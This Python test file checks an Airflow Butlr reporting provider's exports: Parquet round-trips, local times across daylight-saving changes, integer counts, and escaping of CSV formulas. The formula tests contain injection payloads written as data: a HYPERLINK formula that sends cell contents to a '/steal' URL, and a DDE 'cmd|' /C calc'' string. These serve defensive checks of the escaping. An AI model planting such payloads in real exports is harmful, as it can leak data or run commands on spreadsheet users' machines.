"""Files people load: Parquet, the local_time column, whole-number counts and CSV formula safety.

End-to-end tests export from the emulator over HTTP with ButlrReportingOperator and read the files
back (Parquet with pyarrow); the value-typing rules are also checked on API answers written here.
"""

from __future__ import annotations

import csv
import json
import sys
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from airflow_provider_butlr.exceptions import ButlrAPIError, ButlrConfigurationError, ButlrDataError
from airflow_provider_butlr.operators.butlr import ButlrReportingOperator
from airflow_provider_butlr.reporting.output.files import neutralise_formula, write_rows
from airflow_provider_butlr.reporting.output.parquet import write_parquet
from airflow_provider_butlr.reporting.rows import ROW_COLUMNS, flatten_response
from airflow_provider_butlr.reporting.times import format_time
from tests.conftest import connection_json

UTC = UTC
REPORTING = "/api/v3/reporting"
NEW_YORK = "America/New_York"


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def local_text(local: datetime | None, utc: datetime | None) -> str | None:
    """A Parquet ``local_time`` (wall clock) back in the text of JSON Lines: its offset is local - UTC."""
    if local is None or utc is None:
        return None
    offset = local - utc.replace(tzinfo=None)
    return local.replace(tzinfo=timezone(offset)).isoformat()


def read_parquet(path: Path) -> list[dict[str, Any]]:
    """The file's rows with ``time`` and ``local_time`` back in the RFC3339 text of JSON Lines."""
    rows = pq.read_table(path).to_pylist()
    for row in rows:
        row["local_time"] = local_text(row["local_time"], row["time"])
        row["time"] = format_time(row["time"])
    return rows


def export(emu: Any, out: Path, **kwargs: Any) -> dict[str, Any]:
    """One ButlrReportingOperator run against the emulator to ``out`` (its suffix picks the format)."""
    arguments: dict[str, Any] = {
        "task_id": "t",
        "measurements": "room_occupancy",
        "rooms": list(emu.org.rooms_by_id)[:3],
        "timezone": NEW_YORK,
        "start": "2025-11-03T13:00:00Z",
        "stop": "2025-11-03T23:00:00Z",
        "window_every": "1h",
        "output_path": str(out),
    }
    return ButlrReportingOperator(**{**arguments, **kwargs}).execute({})


def sites_by_tz(emu: Any) -> dict[str | None, str]:
    return {s.timezone: s.id for s in emu.org.sites}


# --- Parquet -----------------------------------------------------------------------------------


def test_parquet_reads_back_equal_to_the_jsonl_rows_of_the_same_export(
    butlr_conn: Any, tmp_path: Path
) -> None:
    emu = butlr_conn
    sites = sites_by_tz(emu)
    arguments: dict[str, Any] = {
        "measurements": ["room_occupancy", "traffic"],
        "rooms": None,
        "timezone": None,
        "start": None,
        "stop": None,
        "sites": [sites[NEW_YORK], sites["Europe/Berlin"]],
        "local_day": "2025-11-02",  # New York falls back: a 25-hour day
        "window_function": ["max", "mean"],
    }
    jsonl = export(emu, tmp_path / "day.jsonl", **arguments)
    parquet = export(emu, tmp_path / "day.parquet", **arguments)
    expected = read_jsonl(tmp_path / "day.jsonl")
    actual = read_parquet(tmp_path / "day.parquet")
    assert parquet["format"] == "parquet" and parquet["rows"] == jsonl["rows"] == len(expected) > 1000
    assert actual == expected
    assert {type(r["value"]) for r in expected if r["function"] == "max"} == {int}
    assert {type(r["value"]) for r in expected if r["function"] == "mean"} == {float}
    schema = pq.read_schema(tmp_path / "day.parquet")
    assert schema.names == list(ROW_COLUMNS)
    assert schema.field("time").type == pa.timestamp("us", tz="UTC")
    assert schema.field("value").type == pa.float64()  # mean and max in one file
    assert schema.field("data_incomplete").type == pa.bool_()
    assert schema.field("null_percentage").type == pa.float64()
    assert schema.field("local_time").type == pa.timestamp("us")  # wall clock: Parquet's local timestamp
    assert not list(tmp_path.glob(".*.tmp"))
    metadata = pq.ParquetFile(tmp_path / "day.parquet").metadata
    assert {metadata.row_group(0).column(i).compression for i in range(metadata.num_columns)} == {"ZSTD"}
    # New York's 01:00 comes twice on 2025-11-02 (EDT, then EST): the same wall clock, an hour apart
    table = pq.read_table(tmp_path / "day.parquet", columns=["time", "local_time"]).to_pylist()
    one_am = {r["time"] for r in table if r["local_time"] == datetime(2025, 11, 2, 1)}
    assert {t.hour for t in one_am} >= {5, 6}


def test_parquet_of_whole_counts_has_an_int64_value_column(butlr_conn: Any, tmp_path: Path) -> None:
    emu = butlr_conn
    summary = export(
        emu, tmp_path / "counts.parquet", measurements=["room_occupancy", "traffic"], window_function="max"
    )
    table = pq.read_table(tmp_path / "counts.parquet")
    assert table.schema.field("value").type == pa.int64()
    values = table.column("value").to_pylist()
    assert summary["rows"] == len(values) > 0 and max(v for v in values if v is not None) > 0


def test_parquet_is_written_in_row_groups_while_rows_still_arrive(butlr_conn: Any, fast_hook: Any) -> None:
    emu = butlr_conn
    from airflow_provider_butlr.reporting.export import run_export
    from airflow_provider_butlr.reporting.planning import ReportingQuery

    query = ReportingQuery.build(
        "room_occupancy",
        assets={"rooms": list(emu.org.rooms_by_id)[:4]},
        start="2025-11-03T00:00:00Z",
        stop="2025-11-04T00:00:00Z",
        every="15m",
        function="max",
        timezone="UTC",
    )
    rows = run_export(fast_hook(), query)
    sizes_seen: list[int] = []

    class Sink:
        """A binary file that records its size each time the writer hands it bytes."""

        def __init__(self) -> None:
            self.buffer = bytearray()
            self.closed = False

        def write(self, data: bytes) -> int:
            self.buffer.extend(data)
            return len(data)

        def tell(self) -> int:
            return len(self.buffer)

        def flush(self) -> None:
            pass

    sink = Sink()

    def watched() -> Any:
        for row in rows:
            sizes_seen.append(sink.tell())
            yield row

    count = write_parquet(watched(), sink, integer_values=True, row_group_rows=50)  # type: ignore[arg-type]
    metadata = pq.ParquetFile(pa.BufferReader(bytes(sink.buffer))).metadata
    assert count == 4 * 96 == metadata.num_rows
    assert metadata.num_row_groups == 8  # ceil(384 / 50): one row group per 50 rows
    assert all(metadata.row_group(i).num_rows == 50 for i in range(7))
    # The first row groups were in the file before the last rows were even fetched.
    assert sizes_seen[60] > sizes_seen[10] and sizes_seen[-1] > sizes_seen[60]


def test_parquet_to_an_object_storage_uri_is_moved_into_place(butlr_conn: Any, tmp_path: Path) -> None:
    target = tmp_path / "bucket" / "rooms.parquet"
    summary = export(butlr_conn, tmp_path / "unused.parquet", output_path=target.as_uri())
    assert summary["path"] == target.as_uri() and summary["rows"] == len(read_parquet(target)) == 30
    assert [p.name for p in target.parent.iterdir()] == ["rooms.parquet"]


def test_a_failed_parquet_export_leaves_the_previous_file(
    butlr_conn: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AIRFLOW_CONN_BUTLR_DEFAULT", connection_json(butlr_conn, max_retries=0))
    out = tmp_path / "day.parquet"
    out.write_bytes(b"previous export")
    butlr_conn.faults.add(path=REPORTING, kind="status", status=500, at_calls=[2])
    with pytest.raises(ButlrAPIError, match="HTTP 500"):
        export(butlr_conn, out, rooms=list(butlr_conn.org.rooms_by_id)[:25], max_ids_per_request=10)
    assert out.read_bytes() == b"previous export"
    assert [p.name for p in tmp_path.iterdir()] == ["day.parquet"]


def test_parquet_chosen_by_a_template_fails_before_any_request_without_pyarrow(
    butlr_conn: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    op = ButlrReportingOperator(
        task_id="t",
        measurements="room_occupancy",
        sites=[butlr_conn.org.sites[0].id],
        local_day="2025-11-03",
        output_path=str(tmp_path / "day.out"),
        output_format="{{ params.fmt }}",  # unknown until rendered: the task builds
    )
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.parquet", None)
    op.render_template_fields({"params": {"fmt": "parquet"}})
    with pytest.raises(ButlrConfigurationError, match=r"airflow-provider-butlr\[parquet\]"):
        op.execute({})
    assert butlr_conn.counters.total == 0
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("codec", "stored"), [("snappy", "SNAPPY"), ("none", "UNCOMPRESSED"), ("GZIP", "GZIP")]
)
def test_parquet_codec_is_a_choice(butlr_conn: Any, tmp_path: Path, codec: str, stored: str) -> None:
    summary = export(butlr_conn, tmp_path / "rooms.parquet", output_compression=codec)
    metadata = pq.ParquetFile(tmp_path / "rooms.parquet").metadata
    assert summary["compression"] == codec.lower() and metadata.num_rows == summary["rows"] == 30
    assert {metadata.row_group(0).column(i).compression for i in range(metadata.num_columns)} == {stored}


@pytest.mark.parametrize(
    ("output", "message"),
    [
        ({"output_path": "/data/x.parquet", "output_compression": "bz2"}, "output_compression 'bz2'"),
        ({"output_path": "/data/x.parquet.gz"}, "a Parquet file compresses its own columns"),
    ],
)
def test_parquet_compression_mistakes_are_named_at_parse_time(output: dict[str, str], message: str) -> None:
    with pytest.raises(ButlrConfigurationError, match=message):
        ButlrReportingOperator(task_id="t", measurements="room_occupancy", rooms=["room_1"], **output)


def test_a_fractional_value_in_an_int64_column_fails_instead_of_being_truncated(tmp_path: Path) -> None:
    rows = [{"time": "2025-11-03T13:00:00Z", "value": 2.5}]
    with pytest.raises(ButlrDataError, match=r"value 2\.5 is not a whole number"):
        write_rows(rows, str(tmp_path / "x.parquet"), integer_values=True)
    assert list(tmp_path.iterdir()) == []


# --- local_time ----------------------------------------------------------------------------------


def new_york_local(utc: datetime, transition: datetime, before: int, after: int) -> str:
    """The expected local time by plain arithmetic (no zoneinfo): a fixed offset on each side."""
    hours = before if utc < transition else after
    local = utc + timedelta(hours=hours)
    return local.strftime("%Y-%m-%dT%H:%M:%S") + f"{hours:+03d}:00"


@pytest.mark.parametrize(
    ("day", "transition", "before", "after", "hours"),
    [
        ("2025-03-09", datetime(2025, 3, 9, 7, tzinfo=UTC), -5, -4, 23),  # 02:00 EST -> 03:00 EDT
        ("2025-11-02", datetime(2025, 11, 2, 6, tzinfo=UTC), -4, -5, 25),  # 02:00 EDT -> 01:00 EST
    ],
)
def test_local_time_follows_the_window_timezone_across_a_dst_change(
    butlr_conn: Any, tmp_path: Path, day: str, transition: datetime, before: int, after: int, hours: int
) -> None:
    emu = butlr_conn
    room = next(r.id for r in emu.org.rooms_by_id.values() if emu.org.site_timezone(r.floor_id) == NEW_YORK)
    arguments: dict[str, Any] = {
        "rooms": [room],
        "start": None,
        "stop": None,
        "local_day": day,
        "window_function": "max",
    }
    xcom = ButlrReportingOperator(
        task_id="t", measurements="room_occupancy", timezone=NEW_YORK, **arguments
    ).execute({})
    assert len(xcom) == hours
    expected = [
        new_york_local(datetime.fromisoformat(r["time"].replace("Z", "+00:00")), transition, before, after)
        for r in xcom
    ]
    assert [r["local_time"] for r in xcom] == expected
    assert (
        expected[0] == f"{day}T00:00:00{before:+03d}:00" and expected[-1] == f"{day}T23:00:00{after:+03d}:00"
    )
    offsets = {r["local_time"][-6:]: r["timezone_offset"] for r in xcom}
    assert offsets == {f"{before:+03d}:00": f"{before}h", f"{after:+03d}:00": f"{after}h"}
    for name in ("day.csv", "day.jsonl", "day.parquet"):
        export(emu, tmp_path / name, **arguments)
    assert [r["local_time"] for r in read_csv(tmp_path / "day.csv")] == expected
    assert [r["local_time"] for r in read_jsonl(tmp_path / "day.jsonl")] == expected
    assert [r["local_time"] for r in read_parquet(tmp_path / "day.parquet")] == expected


def test_local_time_uses_each_sites_timezone(butlr_conn: Any) -> None:
    emu = butlr_conn
    sites = sites_by_tz(emu)
    rows = ButlrReportingOperator(
        task_id="t",
        measurements="floor_occupancy",
        sites=[sites["Europe/Berlin"], sites[None]],
        local_day="2025-07-01",
        window_every="1d",
    ).execute({})
    assert {r["local_time"] for r in rows} == {"2025-07-01T00:00:00+02:00", "2025-07-01T00:00:00+00:00"}


# --- whole-number counts -------------------------------------------------------------------------


def api_answer(*values: Any) -> dict[str, Any]:
    return {
        "data": [
            {"time": f"2025-11-03T{13 + i}:00:00Z", "room_id": "room_a", "value": v, "timezone_offset": "-5h"}
            for i, v in enumerate(values)
        ]
    }


@pytest.mark.parametrize(
    ("measurement", "function", "values", "expected"),
    [
        ("room_occupancy", "max", (3.0, 0.0, None), [3, 0, None]),
        ("traffic", "sum", (12.0, 7), [12, 7]),
        ("zone_occupancy", "min", ("4",), [4]),
        ("traffic_room_occupancy", "max", (2.5,), [2.5]),  # not whole: never rounded away
        ("room_occupancy", "mean", (3, 2.5), [3.0, 2.5]),
        ("room_occupancy", "median", (3,), [3.0]),
        ("room_presence_time_secs", "sum", (60,), [60.0]),  # seconds, not a count
    ],
)
def test_whole_counts_are_ints_and_averages_floats(
    measurement: str, function: str, values: tuple[Any, ...], expected: list[Any]
) -> None:
    rows = list(flatten_response(api_answer(*values), measurement=measurement, function=function))
    assert [r["value"] for r in rows] == expected
    assert [type(r["value"]) for r in rows] == [type(v) for v in expected]


def test_whole_counts_stay_integers_in_every_format(tmp_path: Path) -> None:
    rows = list(
        flatten_response(
            api_answer(3.0, 0.0, 11.0), measurement="room_occupancy", function="max", timezone=NEW_YORK
        )
    )
    for name in ("counts.csv", "counts.jsonl", "counts.parquet"):
        assert write_rows(rows, str(tmp_path / name), integer_values=True) == 3
    assert [r["value"] for r in read_csv(tmp_path / "counts.csv")] == ["3", "0", "11"]
    assert "3.0" not in (tmp_path / "counts.jsonl").read_text()
    assert [r["value"] for r in read_jsonl(tmp_path / "counts.jsonl")] == [3, 0, 11]
    table = pq.read_table(tmp_path / "counts.parquet")
    assert table.schema.field("value").type == pa.int64() and table.column("value").to_pylist() == [3, 0, 11]
    assert [r["local_time"] for r in rows] == [
        "2025-11-03T08:00:00-05:00",
        "2025-11-03T09:00:00-05:00",
        "2025-11-03T10:00:00-05:00",
    ]


# --- CSV formula safety --------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://127.0.0.1/steal?d="&A1,"Open")'


def test_csv_neutralises_formulas_in_names_and_keeps_numbers(butlr_conn: Any, tmp_path: Path) -> None:
    emu = butlr_conn
    room = emu.org.rooms_by_id[next(iter(emu.org.rooms_by_id))]
    room.name = FORMULA
    building = emu.org.buildings_by_id[emu.org.floors_by_id[room.floor_id].building_id]
    building.name = "@SUM(1+1)"
    arguments = {"rooms": [room.id], "window_function": "max"}
    export(emu, tmp_path / "safe.csv", **arguments)
    export(emu, tmp_path / "raw.csv", csv_escape_formulas=False, **arguments)
    export(emu, tmp_path / "rows.jsonl", **arguments)
    export(emu, tmp_path / "rows.parquet", **arguments)
    safe = read_csv(tmp_path / "safe.csv")
    assert len(safe) == 10
    assert {r["room_name"] for r in safe} == {"'" + FORMULA}
    assert {r["building_name"] for r in safe} == {"'@SUM(1+1)"}
    assert {r["timezone_offset"] for r in safe} == {"-5h"}  # an offset cannot hold a formula
    assert all(r["value"].isdigit() for r in safe)
    raw = read_csv(tmp_path / "raw.csv")
    assert {r["room_name"] for r in raw} == {FORMULA} and {r["building_name"] for r in raw} == {"@SUM(1+1)"}
    for rows in (read_jsonl(tmp_path / "rows.jsonl"), read_parquet(tmp_path / "rows.parquet")):
        assert {r["room_name"] for r in rows} == {FORMULA}  # only CSV is opened as a spreadsheet


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-5h", "-5h"),
        ("+5h30m", "+5h30m"),
        ("-3.5", "-3.5"),
        ("Kitchen = 2", "Kitchen = 2"),
        ("", ""),
    ],
)
def test_neutralise_formula(text: str, expected: str) -> None:
    assert neutralise_formula(text) == expected


def test_negative_numbers_stay_numbers_in_csv(tmp_path: Path) -> None:
    rows = [{"time": "2025-11-03T13:00:00Z", "value": -3, "null_percentage": -0.5, "room_name": "-Lobby"}]
    write_rows(rows, str(tmp_path / "x.csv"))
    (row,) = read_csv(tmp_path / "x.csv")
    assert (row["value"], row["null_percentage"], row["room_name"]) == ("-3", "-0.5", "'-Lobby")


def test_csv_escape_formulas_must_be_a_boolean() -> None:
    with pytest.raises(ButlrConfigurationError, match="csv_escape_formulas must be True or False"):
        ButlrReportingOperator(
            task_id="t",
            measurements="room_occupancy",
            rooms=["room_1"],
            csv_escape_formulas="no",  # type: ignore[arg-type]
        )
